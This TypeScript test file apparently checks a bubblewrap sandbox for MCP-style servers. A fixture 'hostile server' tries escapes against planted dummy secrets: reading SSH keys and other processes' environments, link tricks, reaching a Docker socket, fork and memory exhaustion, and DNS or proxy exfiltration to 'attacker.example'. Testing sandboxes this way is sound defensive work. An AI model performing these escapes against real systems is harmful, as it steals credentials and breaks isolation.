import { spawn, spawnSync, type ChildProcess } from 'node:child_process'
import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import { createServer as createSocketServer, type AddressInfo, type Server as SocketServer } from 'node:net'
import { hostname, networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { collect, eventually, fixture, openWorld, type World } from './harness.ts'
import { expectNamedService, runHostile, type Attempt } from './hostile.ts'

const bubblewrap = existsSync('/usr/bin/bwrap')
const note = 'missing: bubblewrap'

/** A server that tries what it is told. */
async function hostile(name: string, ...flags: string[]): Promise<Attempt> {
  return await runHostile(world, name, [...flags, '--', ...fixture('hostile-server.mjs')])
}

let world: World
let victim: ChildProcess
let web: Server
let other: Server
let engine: SocketServer
let webPort: number
let otherPort: number
let data: string
let free: Attempt
let boxed: Attempt
let named: Attempt
let offline: Attempt

beforeAll(async () => {
  if (!bubblewrap) return
  world = await openWorld()
  victim = spawn('/bin/sleep', ['600'], { env: { TOKEN: 'of-another-program' }, stdio: 'ignore' })
  await mkdir(join(world.directory, '.ssh'))
  await writeFile(join(world.directory, '.ssh/id_ed25519'), 'a private key')
  await writeFile(join(world.directory, 'notes.txt'), 'private notes')
  data = join(world.directory, 'data-volume')
  await mkdir(join(data, 'vault'), { recursive: true })
  await Promise.all([
    writeFile(join(data, 'public.txt'), 'public'),
    writeFile(join(data, '.env'), 'KEY=secret'),
    writeFile(join(data, 'vault/key'), 'secret'),
    writeFile(join(data, '.thvignore'), '.env\nvault/\n'),
    symlink(join(world.directory, '.ssh/id_ed25519'), join(data, 'innocent.txt')),
  ])
  other = createServer((_request, response) => response.end('another service of this machine'))
  otherPort = await listen(other)
  web = createServer((request, response) => {
    if (request.url === '/away') response.writeHead(302, { location: `http://127.0.0.1:${otherPort}/` }).end()
    else response.end(`service for ${request.headers.host ?? ''}`)
  })
  webPort = await listen(web)
  engine = createSocketServer((socket) => socket.end('HTTP/1.0 200 OK\r\n\r\nengine'))
  engine.listen(join(world.directory, 'docker.sock'))
  await once(engine, 'listening')
  const profile = join(world.directory, 'profile.json')
  const outbound = { allow_host: ['localhost'], allow_port: [webPort] }
  await writeFile(profile, JSON.stringify({ read: [`${data}:/data`], network: { outbound } }))
  ;[free, boxed, named, offline] = await Promise.all([
    hostile('free', '--isolation', 'none'),
    hostile('boxed', '--volume', `${data}:/data`),
    hostile('named', '--permission-profile', profile),
    hostile('offline', '--permission-profile', 'none'),
  ])
})

afterAll(async () => {
  victim?.kill('SIGKILL')
  web?.close()
  other?.close()
  engine?.close()
  await world?.close()
})

describe.skipIf(!bubblewrap)(`a hostile server (${note})`, () => {
  it('is told to be in the sandbox, or not, by list and status', async () => {
    const list = (await world.list()) as { name: string; isolation?: string }[]
    expect(Object.fromEntries(list.map(({ name, isolation }) => [name, isolation]))).toEqual({
      free: 'none',
      boxed: 'sandbox',
      named: 'sandbox',
      offline: 'sandbox',
    })
    expect(await world.ok('status', 'boxed')).toMatch(/Isolation:\s+sandbox/)
  })

  /** Each is shown to work without isolation, so that it can fail. */
  const escapes: [title: string, what: string, how: () => Record<string, unknown>][] = [
    ['read a file of the home directory', 'read', () => ({ path: join(world.directory, 'notes.txt') })],
    ['read an ssh key', 'read', () => ({ path: join(world.directory, '.ssh/id_ed25519') })],
    [
      'read an ssh key through a link of its own',
      'readLink',
      () => ({ path: join(world.directory, '.ssh/id_ed25519'), place: `/tmp/thv-escape-${Math.random()}` }),
    ],
    [
      'take a hard link to an ssh key',
      'hardLink',
      () => ({ path: join(world.directory, '.ssh/id_ed25519'), place: join(world.directory, `link-${Math.random()}`) }),
    ],
    [
      'see files in the temporary directory of others',
      'read',
      () => ({ path: join(world.directory, 'data-volume/.env') }),
    ],
    ['read the environment of another process', 'read', () => ({ path: `/proc/${victim.pid}/environ` })],
    ['signal another process', 'kill', () => ({ pid: victim.pid })],
    ['speak to a container engine', 'talk', () => ({ path: join(world.directory, 'docker.sock') })],
    ['read a system file that is not for it', 'read', () => ({ path: '/etc/hostname' })],
    ['reach a service of this machine on loopback', 'talk', () => ({ host: '127.0.0.1', port: webPort })],
    ['reach it by name', 'talk', () => ({ host: 'localhost', port: webPort })],
    ['get it over HTTP, by a proxy if there is one', 'get', () => ({ url: `http://127.0.0.1:${webPort}/` })],
    ['start more processes than anybody needs', 'fork', () => ({ count: 700 })],
    ['take more memory than it may', 'hog', () => ({ gigabytes: 6 })],
  ]

  it.each(escapes)('can %s only without isolation', async (_title, what, how) => {
    expect(await free(what, how())).toEqual({ done: expect.anything() })
    expect(await boxed(what, how())).toEqual({ failed: expect.any(String) })
  })

  it('cannot reach this machine by its own address, directly or by the proxy', async (context) => {
    const address = outsideAddress()
    if (address === undefined) context.skip('missing: an address beside loopback')
    const how = { host: address, port: webPort }
    expect(await free('talk', how)).toEqual({ done: expect.stringContaining('200') })
    expect(await boxed('talk', how)).toEqual({ failed: expect.any(String) })
    const refused = await boxed('get', { url: `http://${address}:${webPort}/` })
    expect(refused.failed).toContain('403')
    expect(refused.failed).toContain(`add '${address}' to network.outbound.allow_host`)
  })

  it('gets no address of a host out of its resolver', async () => {
    expect(await free('lookup', { host: hostname() })).not.toEqual({ done: expect.stringMatching(/^127\.77\./) })
    expect(await boxed('lookup', { host: 'secret-data.attacker.example' })).toEqual({
      done: expect.stringMatching(/^127\.77\./),
    })
    expect(await offline('lookup', { host: 'secret-data.attacker.example' })).toEqual({ failed: expect.any(String) })
  })

  it('sees the user as itself, its own processes only, an empty home, and the variables it was given', async () => {
    const pids = ((await boxed('list', { path: '/proc' })).done as string[]).filter((name) => /^\d+$/.test(name))
    expect(pids.length).toBeLessThan(5)
    expect(await boxed('list', { path: world.directory })).toEqual({ done: [] })
    const environment = (await boxed('environment')).done as Record<string, string>
    const base = ['HOME', 'LANG', 'LOGNAME', 'MCP_TRANSPORT', 'PATH', 'THV_WORKLOAD_MARKER', 'TMPDIR', 'USER']
    const proxies = ['HTTP_PROXY', 'HTTPS_PROXY', 'NO_PROXY'].flatMap((name) => [name, name.toLowerCase()])
    expect(Object.keys(environment).toSorted()).toEqual([...base, ...proxies, 'NODE_USE_ENV_PROXY'].toSorted())
    expect(environment['HTTPS_PROXY']).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/)
  })

  it('cannot change the system or what belongs to it', async () => {
    const paths = ['/usr/thv-escape', '/etc/thv-escape', '/lib/thv-escape', '/proc/sys/kernel/hostname']
    const outcomes = await Promise.all(paths.map(async (path) => await boxed('write', { path })))
    expect(outcomes).toEqual(paths.map(() => ({ failed: expect.any(String) })))
    const own = fixture('hostile-server.mjs')[1]!
    expect(await boxed('append', { path: own })).toEqual({ failed: expect.stringContaining('EROFS') })
  })

  it('writes into a home and a temporary directory of its own', async () => {
    const notes = join(world.directory, 'notes.txt')
    expect(await boxed('append', { path: notes })).toEqual({ done: 'done' })
    expect(await readFile(notes, 'utf8')).toBe('private notes')
    const mine = `/tmp/thv-escape-${Math.random()}`
    expect(await boxed('write', { path: mine })).toEqual({ done: 'done' })
    expect(existsSync(mine)).toBe(false)
    expect(await free('append', { path: notes })).toEqual({ done: 'done' })
    expect(await readFile(notes, 'utf8')).toBe('private notesappended')
  })
})

describe.skipIf(!bubblewrap)(`what a server was given (${note})`, () => {
  it('a volume is read and written where it was asked for, and a mount of a profile is read only', async () => {
    expect(await boxed('read', { path: '/data/public.txt' })).toEqual({ done: 'public' })
    expect(await boxed('write', { path: '/data/new.txt' })).toEqual({ done: 'done' })
    expect(await readFile(join(data, 'new.txt'), 'utf8')).toBe('written')
    expect(await named('read', { path: '/data/public.txt' })).toEqual({ done: 'public' })
    expect(await named('write', { path: '/data/more.txt' })).toEqual({ failed: expect.stringContaining('EROFS') })
  })

  it('what .thvignore names is empty, and cannot be uncovered', async () => {
    expect(await boxed('read', { path: '/data/.env' })).toEqual({ done: '' })
    expect(await boxed('list', { path: '/data/vault' })).toEqual({ done: [] })
    expect(await boxed('write', { path: '/data/.env' })).toEqual({ failed: expect.any(String) })
    expect(await readFile(join(data, '.env'), 'utf8')).toBe('KEY=secret')
    // Or its next start would show everything.
    expect(await boxed('remove', { path: '/data/.thvignore' })).toEqual({ failed: expect.stringContaining('EBUSY') })
    expect(await boxed('append', { path: '/data/.thvignore' })).toEqual({ failed: expect.stringContaining('EROFS') })
  })

  it('a link in a volume leads to nothing that was not given', async () => {
    expect(await boxed('read', { path: '/data/innocent.txt' })).toEqual({ failed: expect.stringContaining('ENOENT') })
    const place = '/data/planted'
    const path = join(world.directory, '.ssh/id_ed25519')
    expect(await boxed('readLink', { path, place })).toEqual({ failed: expect.stringContaining('ENOENT') })
  })

  it('a service that the profile names is reached directly and by the proxy', async () => {
    await expectNamedService(named, webPort)
  })

  it('nothing else is: another port, another name, an address, a forged Host, a redirect', async () => {
    expect(await named('talk', { host: 'localhost', port: otherPort })).toEqual({ failed: expect.any(String) })
    const refused = { failed: expect.stringMatching(/40[03]/) }
    expect(await named('get', { url: `http://localhost:${otherPort}/` })).toEqual(refused)
    expect(await named('get', { url: `http://127.0.0.1:${otherPort}/`, host: `localhost:${webPort}` })).toEqual(refused)
    expect(await named('get', { url: `http://attacker.example/`, host: `localhost:${webPort}` })).toEqual(refused)
    expect(await named('tunnel', { authority: `127.0.0.1:${otherPort}`, host: `localhost:${webPort}` })).toEqual(
      refused,
    )
    expect(await named('tunnel', { authority: 'attacker.example:443' })).toEqual(refused)
    expect(await free('get', { url: `http://localhost:${webPort}/away` })).toEqual({
      done: 'another service of this machine',
    })
    expect(await named('get', { url: `http://localhost:${webPort}/away` })).toEqual(refused)
  })

  it('each refusal is logged once, with what would allow it', async () => {
    await named('tunnel', { authority: 'logged.example:443' })
    await named('tunnel', { authority: 'logged.example:443' })
    const lines = await eventually('the refusal is logged', 2000, async () => {
      const found = (await world.ok('logs', 'named', '--proxy'))
        .split('\n')
        .filter((line) => line.includes('logged.example'))
      return found.length > 0 ? found : undefined
    })
    expect(lines).toHaveLength(1)
    expect(lines[0]).toContain("add 'logged.example' to network.outbound.allow_host")
  })

  it('a learning run prints the smallest profile of what was reached', async () => {
    const script = join(world.directory, 'learned.cjs')
    const server = fixture('stdio-server.mjs')[1]!
    await writeFile(
      script,
      `const { connect } = require('node:net')
connect(443, 'somewhere.example').on('error', () => {
  connect(Number(new URL(process.env.HTTP_PROXY).port), '127.0.0.1').write('CONNECT localhost:${webPort} HTTP/1.1\\r\\n\\r\\n')
})
import(${JSON.stringify(server)})`,
    )
    const volumes = ['--volume', `${data}:/data:ro`, '--volume', `${server}:${server}:ro`]
    const command = ['--', process.execPath, script]
    const child = world.spawn(['run', '--learn', '--foreground', '--name', 'pupil', ...volumes, ...command])
    const ended = collect(child)
    await eventually('both connections were tried, and the server serves', 30_000, async () => {
      const log = (await world.thv('logs', 'pupil', '--proxy')).stdout
      const isTried = log.includes(`blocked a connection of the server to localhost:${webPort}`)
      // A start that is interrupted is no run, and has learned nothing.
      const serves = (await world.list()).some(({ name, status }) => name === 'pupil' && status === 'running')
      return isTried && serves ? true : undefined
    })
    child.kill('SIGINT')
    const { stdout } = await ended
    expect(JSON.parse(stdout.slice(stdout.indexOf('{')))).toMatchObject({
      read: [`${data}:/data`, `${server}:${server}`],
      network: { outbound: { insecure_allow_all: false, allow_host: ['somewhere.example'], allow_port: [443] } },
    })
  })

  it('this machine is reached by the name of the Docker gateway where that was asked for, and only by it', async () => {
    const attempt = await hostile('gate', '--allow-docker-gateway')
    const url = `http://host.docker.internal:${webPort}/`
    expect(await attempt('get', { url })).toEqual({ done: expect.stringContaining('service for') })
    expect(await attempt('talk', { host: '127.0.0.1', port: webPort })).toEqual({ failed: expect.any(String) })
    expect((await named('get', { url })).failed).toContain('403')
    await world.ok('rm', 'gate')
  })

  it('without network there is none', async () => {
    expect(await offline('talk', { host: 'localhost', port: webPort })).toEqual({ failed: expect.any(String) })
    expect((await offline('environment')).done).not.toHaveProperty('HTTP_PROXY')
  })

  it('without network a server that speaks HTTP is reached all the same', async () => {
    const flags = ['--name', 'reached', '--transport', 'streamable-http', '--network', 'none']
    // It returns when the server has answered.
    await world.ok('run', ...flags, '--', ...fixture('http-server.mjs'))
    await world.ok('rm', 'reached')
  })
})

describe.skipIf(!bubblewrap)(`the end of a sandbox (${note})`, () => {
  it('comes with its supervisor, and leaves no process, socket or control group', async () => {
    await hostile('doomed')
    const { process_id: pid, thv } = await world.status('doomed')
    const forwarders = forwardersOf(pid)
    expect(forwarders).toHaveLength(1)
    process.kill(pid, 'SIGKILL')
    await eventually('the tree is gone', 5000, async () =>
      [...processesOf(thv!.server!.marker), ...forwarders.filter((one) => existsSync(`/proc/${one}/exe`))].length === 0
        ? true
        : undefined,
    )
    // The next one sweeps what the killed one could not remove.
    await world.ok('start', 'doomed')
    expect(leftovers(pid)).toBe('')
    const next = (await world.status('doomed')).process_id
    expect(leftovers(next)).not.toBe('')
    await world.ok('rm', 'doomed')
    expect(leftovers(next)).toBe('')
  })

  it('comes when its forwarder is killed, and the workload has a network again', async () => {
    const attempt = await hostile('cut')
    expect(await attempt('lookup', { host: 'a.example' })).toEqual({ done: expect.stringMatching(/^127\.77\./) })
    const { process_id: supervisor, thv } = await world.status('cut')
    const forwarder = forwarderOf(supervisor)
    expect(forwarder).toBeGreaterThan(0)
    process.kill(forwarder, 'SIGKILL')
    await eventually('another server runs', 15_000, async () => {
      const now = (await world.status('cut')).thv
      return now?.server !== undefined && now.server.pid !== thv!.server!.pid ? true : undefined
    })
    expect(await world.ok('logs', 'cut')).toContain('the forwarder of the server was killed')
    const again = await eventually('the workload runs', 15_000, async () => {
      const found = (await world.list()).find(({ name }) => name === 'cut')
      return found?.status === 'running' && forwarderOf(supervisor) > 0 ? true : undefined
    })
    expect(again).toBe(true)
    await world.ok('rm', 'cut')
  })

  it('a server that would have to run with less than required does not start', async () => {
    const refused = await world.thv('run', '--name', 'a', '--isolation', 'none', '--volume', `${data}:/d`, '--', 'cat')
    expect(refused).toMatchObject({ code: 1, stderr: expect.stringContaining('[isolation-contradiction]') })
    const missing = await world.thv('run', '--name', 'b', '--volume', `${data}/no:/d`, '--', 'cat')
    expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining('volume source path does not exist') })
    const both = await world.thv('run', '--name', 'c', '--isolate-network', '--network', 'host', '--', 'cat')
    expect(both).toMatchObject({ code: 1, stderr: expect.stringContaining('[isolation-contradiction]') })
  })
})

async function listen(server: Server): Promise<number> {
  server.listen(0, '0.0.0.0')
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}

function outsideAddress(): string | undefined {
  const addresses = Object.values(networkInterfaces()).flatMap((entries) => entries ?? [])
  return addresses.find(({ family, internal }) => family === 'IPv4' && !internal)?.address
}

/** The networks that a supervisor has opened; the forwarder is below each. */
function forwardersOf(supervisor: number): string[] {
  const found = spawnSync('ps', ['-eo', 'pid=,ppid=,args='], { encoding: 'utf8' }).stdout.trim().split('\n')
  const rows = found.map((line) => line.trim().split(/\s+/))
  const own = new Set(rows.filter(([, parent]) => Number(parent) === supervisor).map(([pid]) => pid))
  return rows.flatMap(([pid = '', parent, ...words]) =>
    own.has(parent) && words.some((word) => word.endsWith('/forwarder.js')) ? [pid] : [],
  )
}

/** Directories and control groups that a supervisor has made. */
function leftovers(pid: number): string {
  const patterns = ['/tmp', '/sys/fs/cgroup', '/sys/fs/cgroup/*'].map((parent) => `${parent}/thv-sandbox-${pid}-*`)
  return spawnSync('sh', ['-c', `ls -d ${patterns.join(' ')}`], { encoding: 'utf8' }).stdout
}

/** The Node program in the network of a server, below its supervisor; 0 when there is none. */
function forwarderOf(supervisor: number): number {
  const rows = spawnSync('ps', ['-eo', 'pid=,ppid=,args='], { encoding: 'utf8' }).stdout.trim().split('\n')
  const all = rows
    .map((row) => /^ *(\d+) +(\d+) (.*)$/.exec(row) ?? [])
    .map(([, pid, ppid, args = '']) => ({
      pid: Number(pid),
      ppid: Number(ppid),
      args,
    }))
  const below = (pid: number): typeof all =>
    all.filter(({ ppid }) => ppid === pid).flatMap((one) => [one, ...below(one.pid)])
  return below(supervisor).find(({ args }) => /^\S*node\S* .*forwarder\S*$/.test(args))?.pid ?? 0
}

function processesOf(marker: string): string[] {
  const found = spawnSync('sh', ['-c', `grep -lsaF ${marker} /proc/[0-9]*/environ`], { encoding: 'utf8' })
  return found.stdout.split('\n').filter((line) => line !== '' && !line.includes('/self/'))
}
